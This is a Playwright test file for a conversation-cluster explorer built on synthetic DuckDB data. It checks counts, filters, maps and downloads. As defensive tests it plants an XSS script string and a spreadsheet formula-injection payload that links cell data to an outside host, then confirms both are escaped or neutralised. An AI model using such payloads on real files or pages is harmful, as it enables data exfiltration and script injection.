"""The explorer as a person uses it, on made-up tables with every facet filled."""

from __future__ import annotations

import csv
import json
import re
import shutil
from collections.abc import Callable
from itertools import pairwise
from pathlib import Path
from typing import Any
from urllib.parse import unquote

import duckdb
import pytest
from kura_explorer import look
from playwright.sync_api import Locator, Page, expect

from tests.support import synthetic
from tests.support.browser import (
    HOSTILE,
    QUESTION,
    calm,
    ends_on_the_left,
    faint,
    go,
    gone_back,
    pick,
    settled,
)

HOSTILE_ID = "hostile"
TREE = "(from dim_kura__clusters where lens = 'conversation')"
FORMULA_ID, FORMULA = "calculating", '=HYPERLINK("https://outside.example/?"&A1,"more")'


@pytest.fixture(scope="module")
def published(tmp_path_factory: pytest.TempPathFactory) -> Path:
    copy = tmp_path_factory.mktemp("explorer") / "published.duckdb"
    synthetic.make(copy, 3_000)
    with duckdb.connect(str(copy)) as connection:
        connection.execute("use kura")
        connection.execute(
            "update fct_kura__conversations set summary = ?, request = ?, user_id = ?, topic = ? where conversation_id ="
            " (select max(conversation_id) from fct_kura__conversations where cluster_id = 't8m7')",
            [HOSTILE, HOSTILE, HOSTILE_ID, HOSTILE],
        )
        connection.execute(
            "update fct_kura__conversations set summary = ?, request = ?, topic = ?, user_id = ? where conversation_id ="
            " (select min(conversation_id) from fct_kura__conversations where cluster_id = 't8m7')",
            [FORMULA, FORMULA, FORMULA, FORMULA_ID],
        )
        leaf = "'t8m7'"
        connection.execute(
            f"update dim_kura__clusters set name = ?, description = ?, path = ? where cluster_id = {leaf}",
            [HOSTILE] * 3,
        )
        connection.execute(f"update fct_kura__cluster_examples set summary = ? where cluster_id = {leaf}", [HOSTILE])
        connection.execute(
            f"update fct_kura__cluster_facets set value = value || ? where cluster_id = {leaf} and facet = 'segment'",
            [HOSTILE],
        )
    return copy


@pytest.fixture(scope="module")
def ask(published: Path) -> Callable[..., Any]:
    def asked(sql: str) -> Any:
        with duckdb.connect(str(published), read_only=True) as connection:
            connection.execute("use kura")
            return connection.sql(sql).fetchall()[0][0]

    return asked


@pytest.fixture
def page(opened: Callable[..., Page], published: Path) -> Page:
    return opened(published, "", "What people talk about")


def choose(page: Page, label: str, value: str) -> None:
    """Choose an entry of a list; of one that is not closed by that it is closed then."""
    choose_one(page, label, value)
    page.keyboard.press("Escape")
    calm(page)


def choose_one(page: Page, label: str, value: str) -> None:
    """Choose the entry of a list that may be left empty: another key would empty it again."""
    box = page.get_by_role("combobox", name=re.compile(label)).first
    pick(page, box, value)
    calm(page)


def counts(page: Page, number: int) -> None:
    """Wait until the page says that so many conversations are chosen."""
    said = page.get_by_text(re.compile(r"^[\d,]+( of [\d,]+)? conversations?")).first
    expect(said).to_have_text(re.compile(rf"^{number:,}( of| conversations?)"), timeout=10_000)
    calm(page)


def test_the_overview_says_what_sql_says(page: Page, ask: Callable[..., Any]) -> None:
    cards = page.locator(".kura-card")
    expect(cards.filter(has_text="Conversations").locator("b")).to_have_text(
        f"{ask('select count(*) from fct_kura__conversations'):,}"
    )
    expect(cards.filter(has_text="Users").locator("b")).to_have_text(
        f"{ask('select count(distinct user_id) from fct_kura__conversations'):,}"
    )
    frustrated = ask("select avg(is_frustrated::int) from fct_kura__conversations")
    expect(cards.filter(has_text="Frustrated").locator("b")).to_have_text(f"{100 * frustrated:.1f} %")
    expect(page.get_by_test_id("stVegaLiteChart")).to_be_visible()
    expect(page.get_by_label("Conversations per week")).to_be_visible()  # as a screen reader calls the chart
    lists = page.get_by_role("treegrid")
    for name in ("Alerts", "Topics", "New, growing, fading"):
        expect(lists.and_(page.get_by_label(name, exact=True))).to_have_count(1)
    first = lists.first.get_by_role("row").nth(1)
    assert (first.get_by_role("gridcell").count(), lists.first.get_by_role("columnheader").count()) == (2, 2)
    link = page.get_by_test_id("stPageLink-NavLink").nth(1)
    page.keyboard.press("Tab")
    link.focus()
    assert link.evaluate("element => getComputedStyle(element).outlineStyle") == "solid"
    for trend in ("new", "growing", "fading"):
        moving = ask(
            "select count(*) from fct_kura__cluster_trends inner join dim_kura__clusters using (cluster_id)"
            f" where is_leaf and trend = '{trend}' and period_start = ("
            "select max(period_start) from fct_kura__cluster_trends where is_complete)"
        )
        assert moving > 0
        expect(page.locator(".st-key-moved .flag", has_text=trend)).to_have_count(min(moving, 4))


def test_a_comparison_is_kept_in_the_address_and_an_alert_opens_its_cluster(
    page: Page, ask: Callable[..., Any]
) -> None:
    alerted = page.locator(".st-key-alerts .name").first
    name = alerted.inner_text()
    alerted.click()
    settled(page, name)
    expect(page.get_by_role("heading", name="Tools")).to_be_visible()
    expect(page.locator(".kura-card", has_text="Opportunity")).to_be_visible()
    go(page, "Comparisons", "What differs")
    expect(page.get_by_test_id("stDataFrame")).to_be_visible()
    expect(page.get_by_role("region", name="Clusters on both sides")).to_be_visible()  # as a screen reader calls it
    expect(page.locator(".kura-printed")).not_to_be_visible()
    page.get_by_role("button", name="Surest").or_(page.get_by_role("radio", name="Surest")).first.click()
    expect(page).to_have_url(re.compile("sort=surest"))
    before = ask("select baseline_total from fct_kura__comparisons limit 1")
    expect(page.get_by_text(f"{before:,} conversations of 01 Jan 2026 to 31 Mar 2026")).to_be_visible()


def test_the_overview_s_tools_open_the_topics_that_call_them(page: Page, ask: Callable[..., Any]) -> None:
    tools = page.get_by_role("treegrid", name="Tools")
    seen = tools.locator(".row:not(.head):visible")
    expect(seen).to_have_count(ask("select count(distinct tool) from fct_kura__tool_calls"))
    calls, tool = ask("select max((n, tool)) from (select tool, count(*) as n from fct_kura__tool_calls group by tool)")
    expect(seen.first).to_contain_text(f"{tool}{calls} ")
    failed = ask(f"select avg(is_failed::int) from fct_kura__tool_calls where tool = '{tool}'")
    expect(seen.first).to_contain_text(f"{100 * failed:.1f} % failed")
    seen.first.locator(".name").click()
    topic = seen.nth(1).locator(".name")
    expect(topic).to_be_visible()
    name = topic.inner_text()
    topic.click()
    settled(page, name)
    expect(page.get_by_role("heading", name="Tools")).to_be_visible()


def test_filters_change_numbers_to_what_sql_says(
    opened: Callable[..., Page], published: Path, ask: Callable[..., Any]
) -> None:
    page = opened(published, "conversations", "Conversations")
    counts(page, ask("select count(*) from fct_kura__conversations"))
    choose(page, "Frustration", "5")
    counts(page, ask("select count(*) from fct_kura__conversations where user_frustration = 5"))
    choose(page, "Segment", "team")
    both = (
        "select count(*) from fct_kura__conversations inner join fct_kura__conversation_attributes using (conversation_id)"
        " where user_frustration = 5 and segment = 'team'"
    )
    counts(page, ask(both))
    page.get_by_role("textbox", name="Search").fill("app_%")
    page.keyboard.press("Enter")
    calm(page)
    expect(page.get_by_text("No conversation is left")).to_be_visible()
    # the filters stay from page to page
    go(page, "Topics")
    counts(page, ask(both))
    page.get_by_role("button", name="Clear filters").click()
    calm(page)
    counts(page, ask("select count(*) from fct_kura__conversations"))


def test_a_treemap_is_drilled_into_and_climbed_out_of_with_the_keyboard(
    opened: Callable[..., Page], published: Path, ask: Callable[..., Any]
) -> None:
    page = opened(published, "topics", "Topics")
    tiles = page.locator(".treemap button")
    top = ask(f"select cluster_id from {TREE} where level = 0 and not is_leaf order by sort_order limit 1")
    name = ask(f"select name from dim_kura__clusters where cluster_id = '{top}'")
    expect(tiles).to_have_count(ask(f"select count(*) from {TREE} where level = 0 and conversation_count > 0"))
    tiles.filter(has_text=name).first.focus()
    page.keyboard.press("Enter")
    expect(tiles).to_have_count(
        ask(f"select count(*) from dim_kura__clusters where parent_cluster_id = '{top}' and conversation_count > 0")
    )
    page.get_by_role("button", name="All topics").focus()
    page.keyboard.press("Enter")
    expect(tiles.filter(has_text=name).first).to_be_visible()


def test_the_tree_opens_with_the_keyboard_and_leads_to_the_cluster(
    opened: Callable[..., Page], published: Path, ask: Callable[..., Any]
) -> None:
    page = opened(published, "topics", "Topics")
    rows = page.locator(".tree .row:not(.head):visible")
    tops = ask(f"select count(*) from {TREE} where level = 0 and conversation_count > 0")
    expect(rows).to_have_count(tops)
    top = page.locator(".tree .row.top .name").first
    top.focus()
    page.keyboard.press("ArrowRight")
    largest = f"select {{}} from {TREE} where {{}} order by conversation_count desc, sort_order limit 1"
    opened = ask(largest.format("cluster_id", "level = 0"))
    expect(rows).to_have_count(
        tops + ask(f"select count(*) from dim_kura__clusters where parent_cluster_id = '{opened}'")
    )
    page.keyboard.press("ArrowDown")
    page.keyboard.press("Enter")
    below = f"parent_cluster_id = '{opened}'"
    settled(page, ask(largest.format("name", below)))
    count = ask(largest.format("conversation_count", below))
    expect(page.locator(".kura-card").filter(has_text="Conversations").locator("b")).to_have_text(f"{count:,}")
    assert f"id={ask(largest.format('cluster_id', below))}" in page.url


def test_the_map_zooms_by_wheel_and_keys_and_its_labels_never_collide(
    opened: Callable[..., Page], published: Path, ask: Callable[..., Any]
) -> None:
    page = opened(published, "map", "Map")
    frame = page.locator(".map .frame")
    expect(frame).to_have_attribute("data-points", str(ask("select count(x) from fct_kura__conversations")))
    few = int(frame.get_attribute("data-labels") or 0)
    canvas = page.locator(".map canvas")
    canvas.focus()
    for _ in range(4):
        page.keyboard.press("+")
    expect(frame).to_have_attribute("data-scale", re.compile(r"^3\.8"))
    page.keyboard.press("0")
    expect(frame).to_have_attribute("data-scale", "1.000")
    expect(frame).to_have_attribute("data-labels", str(few))
    canvas.hover()
    page.mouse.wheel(0, -300)
    expect(frame).not_to_have_attribute("data-scale", "1.000")
    assert few >= 3
    for scale in range(3):
        boxes = json.loads(frame.get_attribute("data-boxes") or "")
        for i, a in enumerate(boxes):
            for b in boxes[:i]:
                assert a[0] >= b[2] or a[2] <= b[0] or a[1] >= b[3] or a[3] <= b[1], (scale, a, b)
        page.get_by_role("button", name="Zoom in").click()


def test_the_map_is_coloured_by_what_is_asked_for(opened: Callable[..., Page], published: Path) -> None:
    page = opened(published, "map", "Map")
    legend = page.locator(".map .legend button")
    for colour, entries in (
        ("Growth", ["✦ New", "▲ Growing", "▼ Fading", "Steady"]),
        ("Frustration", ["1 · not at all", "2", "3", "4", "5 · very"]),
        ("Concern", ["1 · not at all", "2", "3", "4", "5 · very"]),
        ("Language", ["english", "german", "french", "spanish"]),
        ("Segment", ["free", "team", "enterprise"]),
    ):
        choose(page, "Colour by", colour)
        for entry in entries:
            expect(legend.filter(has_text=entry)).to_have_count(1)


def test_what_strangers_wrote_is_shown_letter_by_letter(
    opened: Callable[..., Page], published: Path, ask: Callable[..., Any]
) -> None:
    shown = "<script>document.title='owned'</script>"
    leaf = ask("select cluster_id from fct_kura__conversations where user_id = 'hostile'")
    page = opened(published, "topics?x=1", "Topics")
    expect(page.locator(".tree .toggle").first).to_be_visible()  # the tree draws itself, after the page
    for toggle in page.locator(".tree .toggle:visible").all():
        toggle.click()
    page.locator(".tree .name", has_text=shown).first.click()
    settled(page, "<script>")
    expect(page.locator(".kura-lead").first).to_contain_text(shown)
    expect(page.locator(".quotes button").first).to_contain_text(shown)
    expect(page.locator("h1")).to_contain_text("**bold** :red[red] $x^2$")
    assert leaf in page.url
    go(page, "Conversations")
    page.get_by_role("textbox", name="Search").fill("owned")
    page.keyboard.press("Enter")
    calm(page)
    counts(page, 1)
    page.get_by_test_id("stDataFrame").first.click(position={"x": 18, "y": 52})
    dialog = page.get_by_role("dialog")
    expect(dialog).to_contain_text(shown)
    body = page.locator("body").inner_html()
    assert "\u202e" not in body
    assert "\x1b" not in body
    assert page.locator("img[src*='outside.example'], a[href^='javascript:']").count() == 0


def test_a_download_holds_what_was_filtered_and_no_formula(
    opened: Callable[..., Page], published: Path, ask: Callable[..., Any]
) -> None:
    page = opened(published, "conversations", "Conversations")
    choose(page, "Frustration", "5")
    counts(page, ask("select count(*) from fct_kura__conversations where user_frustration = 5"))
    expect(page.get_by_test_id("stDownloadButton").get_by_role("button")).to_be_visible()
    calm(page)
    with page.expect_download() as download:
        page.get_by_test_id("stDownloadButton").get_by_role("button").click()
    with duckdb.connect() as connection:
        rows = connection.sql(
            f"select count(*), count(distinct conversation_id) from read_csv('{download.value.path()}')"
        ).fetchall()
    assert rows == [(ask("select count(*) from fct_kura__conversations where user_frustration = 5"),) * 2]


def test_the_toolbar_of_a_table_saves_no_formula(opened: Callable[..., Page], published: Path) -> None:
    page = opened(published, "conversations", "Conversations")
    page.evaluate("delete window.showSaveFilePicker")  # else it asks where to save, which no test can answer
    page.get_by_role("textbox", name="Search").fill("HYPERLINK")
    page.keyboard.press("Enter")
    calm(page)
    counts(page, 1)
    page.get_by_test_id("stDataFrame").first.hover()
    with page.expect_download() as download:
        page.get_by_test_id("stElementToolbar").get_by_label("Download as CSV").first.click()
    saved = Path(download.value.path()).read_text("utf-8-sig")
    cells = [cell for row in csv.reader(saved.splitlines()) for cell in row]
    assert f"'{FORMULA}" in cells
    assert not [cell for cell in cells if cell.startswith(("=", "+", "@", "\t", "\r"))]


def test_a_narrow_window_needs_no_sideways_scrolling(opened: Callable[..., Page], published: Path) -> None:
    tab = opened(published, "", "What people talk about", width=400)
    notes = tab.locator(".st-key-alerts .number")
    expect(notes.first).to_be_visible()
    for box in [note.bounding_box() for note in notes.all()]:
        assert box
        assert 200 < box["x"] + box["width"] <= 400
        assert box["x"] > 120, "there is room for a name"
    for name, title in (("Map", "Map"), ("Topics", "Topics"), ("Cluster", ""), ("Conversations", "Conversations")):
        assert tab.evaluate("document.querySelector('[data-testid=stMain]').scrollWidth") <= 400, name
        if tab.get_by_test_id("stExpandSidebarButton").is_visible():
            tab.get_by_test_id("stExpandSidebarButton").click()
        go(tab, name, title)


def test_without_a_copy_the_explorer_says_what_to_do_and_without_a_model_what_is_missing(
    opened: Callable[..., Page], published: Path, tmp_path: Path
) -> None:
    local = tmp_path / "local.duckdb"
    tab = opened(local, "", "Nothing to show yet")
    expect(tab.get_by_text("make explore")).to_be_visible()

    staged = local.with_suffix(".staged")
    shutil.copy(published, staged)
    with duckdb.connect(str(staged)) as connection:
        connection.execute("use kura")
        connection.execute(
            "update fct_kura__conversations set user_frustration = null, concerning_score = null,"
            " is_frustrated = null, is_concerning = null"
        )
        connection.execute(
            "delete from fct_kura__cluster_facets where facet in ('user_frustration', 'concerning_score')"
        )
    staged.rename(local)
    tab.reload()
    settled(tab, "What people talk about")
    expect(tab.get_by_text("Outcomes, frustration and concern need a language model")).to_be_visible()
    expect(tab.locator(".kura-card").filter(has_text="Frustrated")).to_have_count(0)
    go(tab, "Map")
    tab.get_by_role("combobox", name="Colour by").click()
    expect(tab.get_by_role("option", name="Language")).to_be_visible()
    expect(tab.get_by_role("option", name="Frustration")).to_have_count(0)

    with duckdb.connect(str(local)) as connection:  # as `kura_publish: aggregates` leaves it
        connection.execute("use kura")
        for table in ("fct_kura__conversations", "fct_kura__conversation_attributes", "fct_kura__cluster_examples"):
            connection.execute(f"drop table {table}")
    tab.reload()
    settled(tab, "Map")
    expect(tab.get_by_text("Numbers alone are published here")).to_be_visible()
    expect(tab.get_by_test_id("stSidebar").get_by_text("Topics", exact=True)).to_be_visible()
    expect(tab.get_by_test_id("stSidebar").get_by_text("Map", exact=True)).to_have_count(0)


def test_a_hundred_thousand_conversations_are_drawn_zoomed_and_filtered(
    opened: Callable[..., Page], tmp_path: Path
) -> None:
    large = tmp_path / "large.duckdb"
    synthetic.make(large, 100_000)
    tab = opened(large, "", "What people talk about")
    go(tab, "Map")
    frame = tab.locator(".map .frame")
    expect(frame).to_have_attribute("data-points", re.compile(r"^20\d{3}$"))
    tab.locator(".map canvas").focus()
    for _ in range(5):
        tab.keyboard.press("+")
    expect(frame).to_have_attribute("data-scale", re.compile(r"^5\.3"))
    go(tab, "Conversations")
    choose(tab, "Segment", "team")


def changed(published: Path, copy: Path, *statements: str) -> Path:
    """Write a copy of the tables in which something is different."""
    shutil.copy(published, copy)
    with duckdb.connect(str(copy)) as connection:
        connection.execute("use kura")
        for statement in statements:
            connection.execute(statement)
    return copy


def test_what_is_chosen_is_in_the_address_and_back_goes_back(
    opened: Callable[..., Page], published: Path, ask: Callable[..., Any]
) -> None:
    team = ask("select count(*) from fct_kura__conversation_attributes where segment = 'team'")
    tab = opened(published, "topics", "Topics")
    choose(tab, "Segment", "team")
    counts(tab, team)
    expect(tab).to_have_url(re.compile("facet\\.segment=team"))
    tab.locator(".treemap button").first.click()
    expect(tab).to_have_title(re.compile("^Topics: .+, Segment team"))
    expect(tab).to_have_url(re.compile("at=t"))
    go(tab, "Map")
    choose(tab, "Colour by", "Growth")
    counts(tab, team)
    expect(tab).to_have_url(re.compile("colour=Growth"))
    expect(tab).to_have_url(re.compile("facet\\.segment=team"))
    again = opened(published, tab.url.split("/", 3)[3], "Map")
    counts(again, team)
    expect(again.locator(".map .legend button").filter(has_text="Growing")).to_have_count(1)

    tab.go_back()  # to the map without the colour
    expect(tab.locator(".map .legend button").filter(has_text="Growing")).to_have_count(0)
    counts(tab, team)
    tab.go_back()
    expect(tab).to_have_title(re.compile("^Topics: .+, Segment team"))
    tab.go_back()
    expect(tab).to_have_title("Topics: Segment team · Kura")
    counts(tab, team)
    tab.go_back()
    counts(tab, ask("select count(*) from fct_kura__conversations"))
    tab.go_forward()
    counts(tab, team)


def test_the_overview_has_an_address_and_filters_hold_there_and_on_the_page_of_a_cluster(
    opened: Callable[..., Page], published: Path, ask: Callable[..., Any]
) -> None:
    tab = opened(published, "overview?facet.segment=team", "What people talk about")
    expect(tab.get_by_text("Page not found")).to_have_count(0)
    segment = "fct_kura__conversations inner join fct_kura__conversation_attributes as a using (conversation_id) where segment = 'team'"
    figures = tab.locator(".kura-card").filter(has_text="Conversations").locator("b")
    expect(figures).to_have_text(f"{ask(f'select count(*) from {segment}'):,}")
    tab.locator(".tree .name").first.click()
    expect(tab).not_to_have_title(re.compile("^What people"))
    calm(tab)
    expect(tab).to_have_url(re.compile("id="))
    cluster = re.search(r"id=(\w+)", tab.url)[1]  # type: ignore[index]
    expect(tab).to_have_url(re.compile("facet\\.segment=team"))
    inside = f"{segment} and a.cluster_id like '{cluster}%'"
    expect(figures).to_have_text(f"{ask(f'select count(*) from {inside}'):,}")
    first = ask(f"select min(started_at) from {inside}")
    expect(tab.locator(".kura-card").filter(has_text="First seen").locator("b")).to_have_text(f"{first:%d %b %Y}")


def test_edits_of_clusters_become_rows_of_a_seed(
    opened: Callable[..., Page], published: Path, ask: Callable[..., Any]
) -> None:
    leaf, name, parent = ask(
        "select (cluster_id, name, parent_cluster_id) from dim_kura__clusters where cluster_id = 't1m1'"
    )
    other = ask(
        f"select path from dim_kura__clusters where is_leaf and cluster_id <> '{leaf}' and not is_outliers limit 1"
    )
    tab = opened(published, f"cluster?id={leaf}", name)
    tab.get_by_text("Edit clusters").click()
    code, add = tab.get_by_test_id("stCode"), tab.get_by_role("button", name="Add", exact=True)

    def picked(label: str, option: str) -> None:
        box = tab.get_by_role("combobox", name=label, exact=True)
        # a list that is closed by a page that is drawn anew leaves the words in the box until that is left
        for _ in range(3):
            pick(tab, box, option)
            tab.evaluate("document.activeElement.blur()")  # of the page before, the same box may still be there
            calm(tab)
            expect(box).to_have_count(1)
            if box.input_value() == option:
                return
        expect(box).to_have_value(option)

    tab.get_by_label("New name").fill('Ours, and "theirs"')
    tab.get_by_label("New name").press("Enter")
    calm(tab)
    add.click()
    expect(code).to_contain_text("theirs")
    picked("Edit", "Pin its id and name")
    expect(tab.get_by_label("New name")).to_have_count(0)
    add.click()
    expect(code).to_contain_text(",pin,")
    picked("Edit", "Merge it into another one")
    add.click()
    expect(tab.get_by_text("Say which other cluster is meant.")).to_be_visible()
    picked("Other cluster", other)
    expect(tab.get_by_text("Say which other cluster is meant.")).to_have_count(0)
    add.click()
    expect(code).to_contain_text(",merge_into,")
    tab.get_by_role("button", name="Up to").click()
    settled(tab, ask(f"select name from dim_kura__clusters where cluster_id = '{parent}'"))
    expect(tab.get_by_role("combobox", name="Edit", exact=True)).to_have_count(1)
    calm(tab)
    picked("Edit", "Hide it")
    expect(tab.get_by_label("New name")).to_have_count(0)
    add.click()
    expect(code).to_contain_text(",hide,")
    tab.get_by_role("button", name="Take the last one out").click()
    expect(code).not_to_contain_text(",hide,")
    with tab.expect_download() as download:
        tab.get_by_test_id("stDownloadButton").get_by_role("button", name="Download as a new seed").click()
    with Path(download.value.path()).open(newline="") as file:
        rows = list(csv.DictReader(file))
    assert list(rows[0]) == ["cluster_id", "cluster_name", "edit", "value"]
    assert [(row["cluster_id"], row["cluster_name"], row["edit"]) for row in rows] == [
        (leaf, name, "rename"), (leaf, name, "pin"), (leaf, name, "merge_into"),
    ]  # fmt: skip
    assert rows[0]["value"] == 'Ours, and "theirs"'
    assert rows[2]["value"] == ask(f"select cluster_id from dim_kura__clusters where path = '{other}'")


def test_clusters_are_ordered_by_what_is_asked_for(
    opened: Callable[..., Page], published: Path, ask: Callable[..., Any]
) -> None:
    tab = opened(published, "overview?level=clusters&sort=frustration", "What people talk about")
    worst = ask(
        "select name from dim_kura__clusters inner join fct_kura__conversations using (cluster_id)"
        " where not is_outliers and not is_unprocessed group by name order by avg(is_frustrated::int) desc limit 1"
    )
    expect(tab.locator(".tree:not(.short) .name").first).to_have_text(worst)
    with tab.expect_download() as saved:
        tab.get_by_test_id("stDownloadButton").get_by_role("button").first.click()
    [first, *_] = csv.DictReader(Path(saved.value.path()).read_text("utf-8-sig").splitlines())
    assert first["cluster"].endswith(worst)


LINES_OF_WORDS = """one => {
  const node = one.firstChild;
  return [...node.data.matchAll(/\\S+/g)].map(word => {
    const range = document.createRange();
    range.setStart(node, word.index);
    range.setEnd(node, word.index + word[0].length);
    return range.getClientRects().length;
  });
}"""


def test_what_is_asked_stands_against_what_goes_wrong_down_to_the_conversations_of_a_cell(
    opened: Callable[..., Page], published: Path, ask: Callable[..., Any]
) -> None:
    tab = opened(published, "lenses?facet.outcome=unresolved", "Lenses")
    rows, columns = tab.locator(".grid tbody tr"), tab.locator(".grid thead th")
    unresolved = "fct_kura__conversations where outcome = 'unresolved'"
    expect(columns).to_have_text(["Broken"])  # which all that are unresolved are
    expect(rows).to_have_count(ask(f"select count(distinct left(cluster_id, 2)) from {unresolved}"))
    counts = [int(text.replace(",", "")) for text in tab.locator(".grid td button").all_inner_texts()]
    assert sum(counts) == ask(f"select count(*) from {unresolved}")
    tab.get_by_role("button", name="Clear filters").click()
    expect(columns).to_have_text(["Broken", "Unclear", "No issue"])
    expect(tab.locator(".grid thead td")).to_have_text("Conversation ↓Issue →")
    said = columns.nth(0).locator("span")
    said.evaluate("one => one.textContent = 'Unternehmens, downloaded'")
    assert said.evaluate(LINES_OF_WORDS) == [1, 1], "no word is broken"
    said.evaluate("one => one.textContent = 'Donaudampfschifffahrtsgesellschaft'")
    assert said.evaluate("one => one.offsetWidth") <= 110, "but for one that nobody has room for"
    tab.get_by_role("radio", name="Unresolved").click()
    calm(tab)
    expect(tab.get_by_text("Percent: of those in a cell, as far as it is known, unresolved.")).to_be_visible()
    expect(
        tab.get_by_role("button", name=re.compile(r"^Returns, Broken: \d+ conversations?, 100 % unresolved$"))
    ).to_be_visible()
    tab.get_by_role("radio", name="Conversations").click()
    expect(tab.get_by_text("Percent: of those in a cell")).to_have_count(0)
    calm(tab)
    rows.filter(has_text="Returns").locator("th button").click()
    tab.get_by_text("Returns: ").first.wait_for()
    below = ask("select count(*) from dim_kura__clusters where path like 'Returns > %' and conversation_count > 0")
    expect(rows).to_have_count(below)
    cell = rows.filter(has_text="Returns: late").locator("td button").nth(2)
    count = int(cell.inner_text().replace(",", ""))
    cell.click()
    settled(tab, "Conversations")
    expect(tab.get_by_text(f"{count} conversations", exact=True)).to_be_visible()
    assert count == ask(
        "select count(*) from fct_kura__conversations inner join dim_kura__clusters using (cluster_id)"
        " where path = 'Returns > Returns: late' and issue is null"
    )
    assert "in.issue=none" in tab.url
    expect(tab).to_have_title(re.compile("Conversations: Returns > Returns: late, No issue"))


def test_a_conversation_has_an_address_and_is_read_as_far_as_it_is_published(
    opened: Callable[..., Page], published: Path, tmp_path: Path
) -> None:
    said = "user: where is <b>it</b>?\nsince Monday\nassistant: On its way."
    copy = changed(
        published, tmp_path / "copy.duckdb",
        f"update fct_kura__conversations set transcript = '{said}', conversation_url = 'https://support.example/1'"
        " where conversation_id = 'c0000004'",
    )  # fmt: skip
    tab = opened(copy, "conversations?conversation=c0000004", "Conversations")
    dialog = tab.get_by_role("dialog")
    expect(dialog.locator(".kura-thread p.user")).to_have_text("Userwhere is <b>it</b>?\nsince Monday")
    expect(dialog.locator(".kura-thread p.other")).to_have_text("AssistantOn its way.")
    expect(dialog.get_by_role("link", name="Read it where it was held")).to_have_attribute(
        "href", "https://support.example/1"
    )
    tab.emulate_media(media="print")
    expect(tab.locator("#root")).not_to_be_visible()
    expect(tab.get_by_test_id("stDialog")).to_have_css("position", "static")
    expect(dialog.locator(".kura-thread p.other")).to_be_visible()
    tab.emulate_media(media="screen")
    dialog.get_by_role("button", name="Close").click()
    expect(dialog).to_have_count(0)
    calm(tab)
    expect(tab).not_to_have_url(re.compile("conversation="))
    tab.get_by_test_id("stDataFrame").first.click(position={"x": 18, "y": 52})
    expect(dialog).to_contain_text("The user writes about")
    expect(tab).to_have_url(re.compile("conversation=c"))
    tab.go_back()
    expect(dialog).to_have_count(0)
    gone = opened(copy, "conversations?conversation=nobody", "Conversations")
    expect(gone.get_by_role("dialog")).to_contain_text("not there")


def test_what_is_drawn_around_on_the_map_becomes_a_list(
    opened: Callable[..., Page], published: Path, ask: Callable[..., Any]
) -> None:
    tab = opened(published, "map", "Map")
    frame = tab.locator(".map .frame")
    expect(frame).to_have_attribute("data-points", re.compile(r"\d"))
    tab.get_by_role("button", name="Draw around").click()
    box = tab.locator(".map canvas").bounding_box()
    assert box is not None
    corners = [(0.3, 0.2), (0.7, 0.2), (0.7, 0.6), (0.3, 0.6)]
    tab.mouse.move(box["x"] + box["width"] * 0.3, box["y"] + box["height"] * 0.2)
    tab.mouse.down()
    for x, y in corners[1:]:
        tab.mouse.move(box["x"] + box["width"] * x, box["y"] + box["height"] * y)
    tab.mouse.up()
    expect(tab.get_by_role("heading", name="Drawn around")).to_be_visible()
    calm(tab)
    expect(tab).to_have_url(re.compile("area="))
    drawn = [tuple(map(float, pair.split(","))) for pair in unquote(tab.url.split("area=")[1]).split(";")]
    (left, right), (bottom, top) = ((min(axis), max(axis)) for axis in zip(*drawn, strict=True))
    inside = ask(
        f"select count(*) from fct_kura__conversations where x > {left} and x < {right} and y > {bottom} and y < {top}"
    )
    assert 50 < inside < 2_000
    expect(tab.get_by_test_id("stMarkdown").filter(has_text=re.compile(rf"^{inside:,} conversations$"))).to_be_visible()
    again = opened(published, tab.url.split("/", 3)[3], "Map")
    expect(
        again.get_by_test_id("stMarkdown").filter(has_text=re.compile(rf"^{inside:,} conversations$"))
    ).to_be_visible()
    again.get_by_role("button", name="Forget what is drawn").click()
    expect(again.get_by_role("heading", name="Drawn around")).to_have_count(0)


def test_the_map_says_what_was_said_names_the_largest_topics_where_they_are_and_is_saved_as_a_picture(
    opened: Callable[..., Page], published: Path, ask: Callable[..., Any]
) -> None:
    tab = opened(published, "map", "Map")
    frame = tab.locator(".map .frame")
    expect(frame).to_have_attribute("data-anchors", re.compile("t"))
    anchors = {name: (x, y) for name, x, y in json.loads(frame.get_attribute("data-anchors") or "")}
    boxes = json.loads(frame.get_attribute("data-boxes") or "")
    top = ask(
        "select list(cluster_id order by conversation_count desc) from dim_kura__clusters where level = 0 and not is_leaf"
    )
    assert set(top[:8]) <= set(anchors)
    for (x, y), (left, upper, right, lower) in zip(anchors.values(), boxes, strict=True):
        assert left - 16 <= x <= right + 16
        assert upper - 16 <= y <= lower + 16
    legend, canvas = tab.locator(".map .legend").bounding_box(), tab.locator(".map canvas").bounding_box()
    assert legend is not None
    assert canvas is not None
    assert legend["y"] + legend["height"] <= canvas["y"], "the legend is in view before the map is"
    x, y = anchors[top[0]]
    for step in range(60):  # a name lies on its point: the next one is beside it
        tab.mouse.move(canvas["x"] + x - 60 + 2 * step, canvas["y"] + y + 24)
        if tab.locator(".map .tip span").filter(has_text="writes").count():
            break
    expect(tab.locator(".map .tip span")).to_contain_text("The user writes about")
    with tab.expect_download() as saved:
        tab.get_by_role("button", name="Save as a picture").click()
    assert Path(saved.value.path()).read_bytes()[:4] == b"\x89PNG"


def test_what_has_no_times_is_not_put_in_their_order(
    opened: Callable[..., Page], published: Path, tmp_path: Path
) -> None:
    copy = changed(
        published,
        tmp_path / "timeless.duckdb",
        "update fct_kura__conversations set started_at = null, started_on = null, ended_at = null",
    )
    tab = opened(copy, "conversations", "Conversations")
    expect(tab.get_by_test_id("stDownloadButton")).to_be_visible()
    expect(tab.get_by_role("combobox", name=re.compile("Order"))).to_have_count(0)


def test_one_group_far_away_does_not_squeeze_the_rest(
    opened: Callable[..., Page], published: Path, tmp_path: Path
) -> None:
    copy = changed(
        published, tmp_path / "copy.duckdb",
        "update fct_kura__conversations set x = x + 900, y = y + 300 where cluster_id like 't2%'",
    )  # fmt: skip
    tab = opened(copy, "map", "Map")
    frame = tab.locator(".map .frame")
    expect(frame).to_have_attribute("data-anchors", re.compile("t"))
    places = [
        (x, y) for name, x, y in json.loads(frame.get_attribute("data-anchors") or "") if not name.startswith("t2")
    ]
    assert max(x for x, _ in places) - min(x for x, _ in places) > 200
    assert max(y for _, y in places) - min(y for _, y in places) > 200


def test_two_stretches_of_time_stand_beside_each_other_with_what_moved(
    opened: Callable[..., Page], published: Path, ask: Callable[..., Any]
) -> None:
    tab = opened(
        published,
        "changes?before=2026-02-02&before_to=2026-03-01&after=2026-06-01&after_to=2026-06-28",
        "What has changed",
    )
    counted = [
        ask(f"select count(*) from fct_kura__conversations where started_at >= '{first}' and started_at < '{end}'")
        for first, end in (("2026-02-02", "2026-03-02"), ("2026-06-01", "2026-06-29"))
    ]
